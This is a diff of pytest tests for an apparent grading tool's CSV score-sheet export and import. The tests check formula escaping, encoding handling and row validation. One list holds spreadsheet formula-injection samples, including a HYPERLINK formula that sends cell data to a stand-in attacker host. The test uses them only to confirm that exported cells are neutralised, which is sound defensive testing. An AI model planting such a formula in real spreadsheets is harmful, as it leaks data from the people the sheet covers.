@@ -94,3 +94,73 @@ def test_a_csv_without_the_needed_columns_says_which(master, records, tmp_path):
     path.write_text("name,points\nbob,3\n")
     with pytest.raises(GradingError, match="needs columns student, grade_id"):
         read_manual_scores(path, master, set(records))
+
+
+FORMULAS = ['=HYPERLINK("http://attacker.invalid/?leak="&A3&F3, "x")', "+1+1", "-2+3", "@SUM(A1)",
+            "\tindented", "\rreturn", "- a bullet point"]
+
+
+def test_answers_that_start_like_a_formula_are_text_in_the_sheet(master, tmp_path):
+    recs = {f"s{i}": Record(f"s{i}", "graded", {"q1_answer": None, "q4_answer": 3.0},
+                            answers={"q1_answer": text, "q4_answer": "-7"})
+            for i, text in enumerate(FORMULAS)}
+    _, csv_path = write_manual_sheet(recs, master, tmp_path)
+    rows = _rows(csv_path)
+    q1 = {r["student"]: r["answer"] for r in rows if r["grade_id"] == "q1_answer"}
+    assert q1 == {f"s{i}": "'" + text for i, text in enumerate(FORMULAS)}
+    q4 = [r for r in rows if r["grade_id"] == "q4_answer"]
+    assert {r["answer"] for r in q4} == {"-7"}  # a plain number is no formula
+    assert {(r["score"], r["max_points"]) for r in q4} == {("3", "15")}  # numbers stay numbers
+    for r in rows:  # no cell at all starts like a formula, whatever its column
+        assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in r.values())
+    for r in rows:  # the sheet as written imports back
+        r["score"] = "1" if r["grade_id"] == "q1_answer" else ""
+    with open(csv_path, "w", newline="", encoding="utf-8") as f:
+        w = csv.DictWriter(f, fieldnames=list(rows[0]))
+        w.writeheader()
+        w.writerows(rows)
+    assert len(read_manual_scores(csv_path, master, set(recs))) == len(FORMULAS)
+
+
+def test_excel_csv_utf8_with_a_bom_and_semicolons_is_read(master, tmp_path):
+    path = tmp_path / "scores.csv"
+    path.write_text("student,grade_id,score\r\nbob,q1_answer,4\r\n", encoding="utf-8-sig")
+    assert read_manual_scores(path, master, {"bob"}) == {("bob", "q1_answer"): 4.0}
+    path.write_text("student;question;score\nbob;q4;12.5\n", encoding="utf-8-sig")
+    assert read_manual_scores(path, master, {"bob"}) == {("bob", "q4_answer"): 12.5}
+    path.write_text("student,grade_id,score\njose\u0301,q1_answer,4\n", encoding="utf-8")  # NFD
+    assert read_manual_scores(path, master, {"jos\u00e9"}) == {("jos\u00e9", "q1_answer"): 4.0}
+
+
+@pytest.mark.parametrize("encoding, says", [
+    ("utf-16", "is UTF-16 (Excel's 'Unicode Text'); labkit reads UTF-8: save it from the "
+               "spreadsheet as 'CSV UTF-8 (Comma delimited)'"),
+    ("latin-1", "is not UTF-8 (byte 0xe9 on line 2; perhaps Latin-1 or Windows-1252); labkit "
+                "reads UTF-8: save it from the spreadsheet as 'CSV UTF-8 (Comma delimited)'"),
+])
+def test_other_encodings_are_refused_saying_which_one_is_needed(master, tmp_path, encoding, says):
+    path = tmp_path / "scores.csv"
+    path.write_text("student,grade_id,score\njosé,q1_answer,4\n", encoding=encoding)
+    with pytest.raises(GradingError) as e:
+        read_manual_scores(path, master, {"josé"})
+    assert str(e.value).startswith(f"{path} {says}")
+
+
+def test_duplicates_and_grade_ids_under_the_wrong_question_are_listed_with_the_other_bad_rows(
+        master, records, tmp_path):
+    path = tmp_path / "scores.csv"
+    path.write_text("student,grade_id,question,score\n"
+                    "bob,q1_answer,q1,5\n"      # fine alone
+                    "amy,q2_test,q1,2\n"        # a test cell's grade id under q1
+                    "amy,q4_answer,q1,3\n"      # q4's answer under q1
+                    "bob,q1_answer,q1,4\n"      # bob's q1 twice
+                    "zed,q1_answer,q1,1\n"      # unknown student
+                    "amy,,q9,1\n")              # no such question
+    with pytest.raises(GradingError) as e:
+        read_manual_scores(path, master, set(records))
+    assert str(e.value).splitlines()[1:] == [
+        "  line 3: 'q2_test' is not a free-text question (one of ['q1_answer', 'q4_answer'])",
+        "  line 4: 'q4_answer' is a q4 answer, but the row says question 'q1'",
+        "  line 5: 'bob' 'q1_answer' is scored twice (lines 2 and 5): keep one row",
+        "  line 6: unknown student 'zed'",
+        "  line 7: 'q9' is not a question with a free-text answer (one of ['q1', 'q4'])"]
